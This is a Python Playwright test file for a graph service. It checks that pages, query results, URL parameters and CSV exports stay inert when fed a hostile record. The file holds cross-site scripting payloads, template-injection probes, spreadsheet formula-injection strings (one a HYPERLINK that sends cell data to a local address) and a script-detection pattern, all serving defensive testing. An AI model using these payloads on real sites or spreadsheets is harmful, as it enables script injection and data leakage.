"""What data and addresses say is text: no script of theirs runs, no cell of theirs is a formula.

The record of these tests was made by somebody who wants to act in a reader's browser or
spreadsheet: every label, description, name, date and link of it is an attack.
"""

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from urllib.parse import quote

import pytest
from playwright.sync_api import Page

from graph_service.ledger.ledger import NewEntry
from graph_service.namespaces import IDENTIFIER, ONTOLOGY, PREFIXES
from graph_service.settings import read_settings
from graph_service.state import State
from tests.browser.conftest import OpenPage, serving
from tests.browser.watching import Watch

SCRIPTS = (
    "<script>window.struck=1</script>",
    '"><img src=x onerror=window.struck=1>',
    "'><svg onload=window.struck=1>",
    "</textarea></script><script>window.struck=1</script>",
    "<a href='javascript:window.struck=1'>open</a>",
    "<iframe srcdoc='<script>parent.struck=1</script>'></iframe>",
    "{{ 7*'7' }}${7*7}<%= 7 %>",
    "]]><script>window.struck=1</script>",
)
FORMULAS = ('=HYPERLINK("http://127.0.0.1:9/?"&A1,"x")', "+1+1", "-1+1", "@SUM(1)", "\t=1", "\r=1")
LINKS = ("javascript:window.struck=1", "data:text/html,%3Cscript%3Eparent.struck=1%3C/script%3E")
KINDS = {
    "incident": "Incident",
    "state": "State",
    "mechanism": "Mechanism",
    "source": "Source",
    "person": "Defender",
    "instrument": "Guidelines",
    "situation": "Situation",
}
TEXTS = ("rdfs:label", "rdfs:comment", "dcterms:title", "dcterms:description", "foaf:name")
PARAMETERS = (
    "/search?q={}&kind={}&lang={}",
    "/queries?q={}",
    "/queries/incident-chronology?state={}&since={}&language={}&view={}",
    "/?interface={}&{}=1",
    "/sparql?query={}",
    "/validate?{}={}",
    "/exports?{}",
    "/releases?after={}",
    "/docs/{}",
    "/doc/state/{}",
    "/ontology/{}",
    "/no/{}/{}",
)
INJECTED = """() => [
  ...document.querySelectorAll("iframe, object, embed, base, img[src=x], script:not([src])"),
  ...[...document.querySelectorAll("*")].filter((each) =>
    [...each.attributes].some((a) => a.name.startsWith("on") ||
      (["href", "src", "action", "formaction"].includes(a.name) &&
        /^\\\\s*(javascript|data|vbscript):/i.test(a.value)))),
].map((each) => each.outerHTML.slice(0, 120))"""
"""What no page of ours has, whatever its data says."""


def statements() -> bytes:
    """Return the hostile graph as N-Quads: two things of each kind, whose links lead nowhere."""
    lines = []
    texts = (*SCRIPTS, *FORMULAS)
    for kind, name in KINDS.items():
        for number in (1, 2):
            subject = f"<{IDENTIFIER}{kind}/x{number}>"
            lines.append(f"{subject} <{PREFIXES['rdf']}type> <{ONTOLOGY}{name}>")
            for at, prefixed in enumerate(TEXTS):
                prefix, local = prefixed.split(":")
                said = json.dumps(" ".join(texts) if at else texts[(number * 5) % len(texts)])
                lines.append(f"{subject} <{PREFIXES[prefix]}{local}> {said}@en")
            for link in LINKS:
                lines.append(f"{subject} <{PREFIXES['rdfs']}seeAlso> <{link}>")
                lines.append(f"{subject} <{ONTOLOGY}concernsState> <{link}>")
            for state in (1, 2):  # the label of the second is a formula
                lines.append(f"{subject} <{ONTOLOGY}concernsState> <{IDENTIFIER}state/x{state}>")
            edtf = json.dumps(SCRIPTS[1])
            lines.append(f"{subject} <{ONTOLOGY}occurred> {edtf}")
    for number, text in enumerate(texts):
        subject = f"<{IDENTIFIER}incident/f{number}>"
        lines.append(f"{subject} <{PREFIXES['rdf']}type> <{ONTOLOGY}Incident>")
        lines.append(f"{subject} <{PREFIXES['rdfs']}label> {json.dumps('struckword ' + text)}")
        lines.append(f"{subject} <{PREFIXES['rdfs']}comment> {json.dumps(text)}")
    return "".join(f"{line} <http://example.org/hostile> .\n" for line in lines).encode()


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """Return the address of a service on the hostile record."""
    settings = read_settings(
        {"state": tmp_path_factory.mktemp("hostile") / "state", "shapes": "none"}, {}
    )
    entry = NewEntry("http://example.org/hostile", "public", SCRIPTS[1], SCRIPTS[0], statements())
    State(settings).ledger.commit([entry], issued=datetime(2026, 1, 31, tzinfo=UTC))
    with serving(settings.state) as address:
        yield address


def assert_inert(page: Page) -> None:
    """Nothing of the record or the address has become part of the page, and no script of it ran."""
    assert page.evaluate("window.struck") is None, page.url
    assert page.evaluate(INJECTED) == [], page.url


def test_pages_of_hostile_things_are_inert(open_page: OpenPage) -> None:
    """Each kind of thing, lists, questions, files of the catalog, with script."""
    paths = [f"/doc/{kind}/x{number}.html" for kind in KINDS for number in (1, 2)]
    paths += ["/", "/search?q=struckword", "/queries/states-by-incidents"]
    paths += [f"/queries/states-by-incidents?view={view}" for view in ("bars", "map")]
    paths += ["/queries/incident-chronology", "/catalog", "/exports", "/exports/graphs"]
    paths += ["/changes.html", "/.well-known/void", "/releases", "/releases/1"]
    page = open_page(paths[0])
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    for path in paths:
        answer = page.goto(path)
        assert answer is not None and answer.status == 200, path
        page.wait_for_load_state("networkidle")
        assert_inert(page)
    assert "<script>" in page.request.get("/doc/incident/x1.ttl").text()  # it is there, as text


def test_answers_of_the_workbench_are_inert(open_page: OpenPage) -> None:
    """With script in the table, without in the page of rows."""
    query = "SELECT ?s ?p ?o { ?s ?p ?o } LIMIT 500"
    page = open_page(f"/sparql#query={quote(query)}")
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    page.wait_for_selector("html[data-ready]")
    page.locator("#run").click()
    page.wait_for_selector("#live[aria-busy=false] #shown :first-child")
    assert_inert(page)
    bare = open_page(f"/sparql?query={quote(query)}")
    assert bare.locator("tbody tr").count() > 100
    assert_inert(bare)


def test_parameters_are_inert(open_page: OpenPage, watch: Watch) -> None:
    """Each parameter of each form, and addresses where nothing is, say it back as text or not."""
    page = open_page("/")
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    for pattern in PARAMETERS:
        for attack in SCRIPTS[:4]:
            said = quote(attack, safe="")
            page.goto(pattern.format(*[said] * pattern.count("{}")))
            assert_inert(page)
    # a field for a date has nothing in it then, which the browser tells
    told = [each for each in watch.faults if "does not conform to the required format" in each]
    assert watch.faults == told
    watch.faults.clear()


def test_cells_of_safe_files_are_no_formulas(open_page: OpenPage) -> None:
    """A spreadsheet that opens the file computes nothing; by itself the file is left exact."""
    page = open_page("/")
    resource = quote(f"{IDENTIFIER}incident/x1", safe="")
    for path in (
        f"/queries/resource-neighbourhood.csv?resource={resource}",
        "/search?q=struckword&format=csv",
    ):
        exact = _cells(page, path)
        assert len(exact) > 10, path
        safe = _cells(page, f"{path}&safe=1")
        assert len(safe) == len(exact) and not [cell for cell in safe if cell.startswith(START)]
        if "queries" in path:
            assert [cell for cell in exact if cell.startswith(START)]


START = tuple("=+-@\t\r")
"""What a spreadsheet takes for the beginning of a formula."""


def _cells(page: Page, path: str) -> list[str]:
    answer = page.request.get(path, headers={"Accept": "text/csv"})
    assert answer.status == 200, answer.text()[:300]
    return [cell for row in csv.reader(io.StringIO(answer.text(), newline="")) for cell in row]


def test_hostile_record_is_hostile(tmp_path: Path) -> None:
    """Each attack stands in the graph, so that the tests above look at all of them."""
    text = statements().decode()
    for attack in (*SCRIPTS, *FORMULAS):
        assert json.dumps(attack)[1:-1] in text
    for link in LINKS:
        assert f"<{link}>" in text
